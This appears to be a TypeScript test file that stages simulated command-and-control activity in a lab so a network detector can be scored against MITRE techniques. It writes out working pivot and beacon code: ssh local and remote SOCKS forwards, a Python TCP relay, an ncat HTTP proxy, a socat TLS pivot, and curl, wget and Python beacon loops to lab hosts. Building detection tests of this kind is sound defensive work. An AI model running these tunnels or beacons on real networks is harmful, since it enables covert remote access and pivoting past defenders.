// Session 4: tunnel, proxy, unusual-port and beacon variants (issue 11, classes 5, 7 and 8) staged
// nowhere else: ssh forwards from a config file or a remote SOCKS forward, a python relay, ncat as
// an HTTP proxy, a TLS relay, a python session to an unassigned port, and beacons from shell
// loops (curl, wget on the https port) and from python with varying payload sizes.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Alert } from '../../src-shared/model';
import { startAgent } from './agents';
import { ADDR, NS, type Lab } from './lab';
import { isEndpoint, mentions, stopping } from './scenario-kit';
import type { Scenario } from './scenarios';
import { extListeners, sshClientArgs, startSshServer, waitForSocket } from './scenario-kit-net';

const SSH_PORT = 2222;

/** A loop in the victim's shell (from a scratch folder). */
const loop = (lab: Lab, body: string) => lab.run(NS.victim, ['bash', '--norc', '-c', `cd ${lab.tmp} && while :; do ${body}; done`]);

/**
 * Waits for a shell loop's first call. Node gives a child a socket as stdin, and bash then reads
 * ~/.bashrc as if started by sshd; here that runs `pyenv init`, whose rehash can wait 60 s on
 * another's lock. The loops run with --norc; the window still starts at the first call.
 */
const firstCall = (lab: Lab, remote: string) => waitForSocket(lab, NS.victim, ['-tan'], remote, 90_000);

/** The beacon alert names the endpoint and was raised by its 10th connection at the latest. */
const beaconTo =
  (address: string, port: number) =>
  (alert: Alert): boolean =>
    isEndpoint(alert.destination, address, [port]) && Number(alert.evidence.connections) <= 10;

const PYTHON_RELAY = (listen: number, target: number) => String.raw`
import socket, threading
def pump(a, b):
    while True:
        d = a.recv(65536)
        if not d:
            break
        b.sendall(d)
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("0.0.0.0", ${listen}))
server.listen(8)
while True:
    client, _ = server.accept()
    upstream = socket.create_connection(("${ADDR.ext}", ${target}))
    threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
    threading.Thread(target=pump, args=(upstream, client), daemon=True).start()
`;

const PYTHON_BEACON = (port: number) => String.raw`
import os, random, socket, time
while True:
    try:
        s = socket.create_connection(("${ADDR.ext}", ${port}), timeout=2)
        s.sendall(b"POST /u HTTP/1.1\r\n\r\n" + os.urandom(random.randint(100, 6000)))
        time.sleep(0.2)
        s.close()
    except OSError:
        pass
    time.sleep(6 + random.uniform(-1.2, 1.2))
`;

export const SESSION4_C2_SCENARIOS: Scenario[] = [
  {
    id: 's4-tunnel-ssh-config-forward',
    title: `ssh -F cfg -N lab: the LocalForward 127.0.0.1:8023 → ${ADDR.ext}:8081 is in a config file, not on the command line; used by curl`,
    expected: 'T1572',
    mustName: 'ssh with its forward (listener) and the server',
    alsoTrue: ['T1090', 'T1571'],
    needs: ['ssh', 'ssh-keygen', '/usr/sbin/sshd', 'curl'],
    windowMs: 15_000,
    async stage(lab) {
      const { server, key } = await startSshServer(lab);
      const web = await extListeners(lab, ['8081=http']);
      const config = join(mkdtempSync(join(lab.tmp, 'sshcfg-')), 'config');
      writeFileSync(
        config,
        [
          'Host lab',
          `  HostName ${ADDR.ext}`,
          `  Port ${SSH_PORT}`,
          '  User root',
          `  IdentityFile ${key}`,
          '  BatchMode yes',
          '  StrictHostKeyChecking no',
          '  UserKnownHostsFile /dev/null',
          `  LocalForward 127.0.0.1:8023 ${ADDR.ext}:8081`,
          '',
        ].join('\n'),
      );
      const ssh = lab.run(NS.victim, ['ssh', '-F', config, '-N', 'lab']);
      await waitForSocket(lab, NS.victim, ['-tn'], `${ADDR.ext}:${SSH_PORT}`);
      const traffic = loop(lab, 'curl -s -m 3 http://127.0.0.1:8023/ > /dev/null; sleep 0.7');
      return {
        names: (alert) => alert.process?.pid === ssh.pid && mentions(alert, ADDR.ext),
        stop: stopping(traffic, ssh, web, server),
      };
    },
  },
  {
    id: 's4-tunnel-ssh-remote-socks',
    title: `ssh -N -R 1080 (remote dynamic forward: a SOCKS proxy on the far side into this network), used from the external side`,
    expected: 'T1572',
    mustName: 'ssh with its remote forward and the server',
    alsoTrue: ['T1090', 'T1571'],
    needs: ['ssh', 'ssh-keygen', '/usr/sbin/sshd', 'curl'],
    windowMs: 15_000,
    async stage(lab) {
      const { server, key } = await startSshServer(lab);
      const ssh = lab.run(NS.victim, ['ssh', '-R', '1080', ...sshClientArgs(key)]);
      await waitForSocket(lab, NS.victim, ['-tn'], `${ADDR.ext}:${SSH_PORT}`);
      const traffic = lab.run(NS.ext, [
        'bash',
        '--norc',
        '-c',
        `while :; do curl -s -m 3 --socks5 127.0.0.1:1080 http://${ADDR.srv[0]}/ > /dev/null; sleep 0.7; done`,
      ]);
      return {
        names: (alert) => alert.process?.pid === ssh.pid && mentions(alert, ADDR.ext),
        stop: stopping(traffic, ssh, server),
      };
    },
  },
  {
    id: 's4-tunnel-python-relay',
    title: `a python3 relay script (chisel-like): listens on :9091, one upstream connection to ${ADDR.ext}:6021 per client`,
    expected: 'T1090',
    mustName: 'python3, both ends',
    alsoTrue: ['T1571'],
    windowMs: 15_000,
    async stage(lab) {
      const sink = await extListeners(lab, ['6021=hold']);
      const relay = lab.run(NS.victim, ['python3', '-c', PYTHON_RELAY(9091, 6021)]);
      await waitForSocket(lab, NS.victim, ['-ltn'], ':9091');
      const client = await startAgent(lab, NS.attacker, 'sessions', ['--to', `${ADDR.victim}:9091`, '--seconds', '60']);
      return {
        names: (alert) => mentions(alert, `${ADDR.ext}:6021`) && mentions(alert, ADDR.attacker),
        stop: stopping(client, relay, sink),
      };
    },
  },
  {
    id: 's4-tunnel-ncat-http-proxy',
    title: `ncat -lk 3128 --proxy-type http: the attacker fetches ${ADDR.ext}:6022 through this host (requests held ~4 s)`,
    expected: 'T1090',
    mustName: 'ncat, both ends',
    alsoTrue: ['T1571'],
    needs: ['ncat', 'curl'],
    windowMs: 20_000,
    async stage(lab) {
      const sink = await extListeners(lab, ['6022=sink']);
      const proxy = lab.run(NS.victim, ['ncat', '-lk', ADDR.victim, '3128', '--proxy-type', 'http']);
      await waitForSocket(lab, NS.victim, ['-ltn'], ':3128');
      const client = lab.run(NS.attacker, [
        'bash',
        '--norc',
        '-c',
        `while :; do curl -s -m 4 -x http://${ADDR.victim}:3128 http://${ADDR.ext}:6022/ > /dev/null; done`,
      ]);
      await firstCall(lab, `${ADDR.ext}:6022`);
      return {
        names: (alert) => alert.process?.name === 'ncat' && mentions(alert, `${ADDR.ext}:6022`) && mentions(alert, ADDR.attacker),
        stop: stopping(client, proxy, sink),
      };
    },
  },
  {
    id: 's4-tunnel-socat-openssl-listen',
    title: `socat OPENSSL-LISTEN:4443,fork TCP:${ADDR.ext}:6023: a TLS-wrapped pivot, reached from the attacker`,
    expected: 'T1090',
    mustName: 'socat, both ends',
    alsoTrue: ['T1571'],
    needs: ['socat', 'openssl'],
    windowMs: 15_000,
    async stage(lab) {
      const dir = mkdtempSync(join(lab.tmp, 'tls-relay-'));
      const pem = join(dir, 'relay.pem');
      execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', pem, '-out', pem, '-days', '1', '-subj', '/CN=relay'], {
        stdio: 'ignore',
      });
      const sink = await extListeners(lab, ['6023=hold']);
      const relay = lab.run(NS.victim, ['socat', `OPENSSL-LISTEN:4443,cert=${pem},verify=0,fork,reuseaddr`, `TCP:${ADDR.ext}:6023`]);
      await waitForSocket(lab, NS.victim, ['-ltn'], ':4443');
      const client = lab.run(NS.attacker, ['bash', '--norc', '-c', `while :; do echo hello; sleep 1; done | socat - OPENSSL:${ADDR.victim}:4443,verify=0`]);
      return {
        names: (alert) => alert.process?.name === 'socat' && mentions(alert, `${ADDR.ext}:6023`) && mentions(alert, ADDR.attacker),
        stop: stopping(client, relay, sink),
      };
    },
  },
  {
    id: 's4-unusual-port-python',
    title: `python3 holds a session to ${ADDR.ext}:29876 (no IANA service), a line every 2 s`,
    expected: 'T1571',
    mustName: 'python3 and port 29876',
    windowMs: 10_000,
    async stage(lab) {
      const sink = await extListeners(lab, ['29876=hold']);
      const client = lab.run(NS.victim, [
        'python3',
        '-c',
        `import socket,time\ns=socket.create_connection(("${ADDR.ext}",29876))\nwhile True:\n    s.sendall(b"ping\\n"); time.sleep(2)`,
      ]);
      return {
        names: (alert) => alert.destination?.port === 29876 && (alert.process?.name ?? '').startsWith('python3'),
        stop: stopping(client, sink),
      };
    },
  },
  {
    id: 's4-beacon-curl-loop-5s',
    title: `a shell loop: curl ${ADDR.ext}:8443 every 4.0–5.9 s (each curl a new process)`,
    expected: 'T1071',
    mustName: `destination ${ADDR.ext}:8443 within 10 connections`,
    needs: ['curl'],
    windowMs: 70_000,
    stage: async (lab) => {
      const beacon = loop(lab, `curl -s -m 2 http://${ADDR.ext}:8443/c > /dev/null; sleep $((4 + RANDOM % 2)).$((RANDOM % 10))`);
      await firstCall(lab, `${ADDR.ext}:8443`);
      return { names: beaconTo(ADDR.ext, 8443), stop: stopping(beacon) };
    },
  },
  {
    id: 's4-beacon-wget-https-port',
    title: `a shell loop: wget ${ADDR.web[2]}:443 every 3.2–4.8 s (the https port, so the port alone says nothing)`,
    expected: 'T1071',
    mustName: `destination ${ADDR.web[2]}:443 within 10 connections`,
    needs: ['wget'],
    windowMs: 60_000,
    stage: async (lab) => {
      const beacon = loop(lab, `wget -q -T 2 -O /dev/null http://${ADDR.web[2]}:443/; sleep 3.$((2 + RANDOM % 9))`);
      await firstCall(lab, `${ADDR.web[2]}:443`);
      return { names: beaconTo(ADDR.web[2], 443), stop: stopping(beacon) };
    },
  },
  {
    id: 's4-beacon-python-varying-size',
    title: `python3 posts 100–6,000 random bytes to ${ADDR.ext}:8080 every 6 s ± 1.2 s (payload sizes vary)`,
    expected: 'T1071',
    mustName: `destination ${ADDR.ext}:8080 within 10 connections`,
    alsoTrue: ['T1048'],
    windowMs: 80_000,
    stage: async (lab) => {
      const beacon = lab.run(NS.victim, ['python3', '-c', PYTHON_BEACON(8080)]);
      return { names: beaconTo(ADDR.ext, 8080), stop: stopping(beacon) };
    },
  },
];
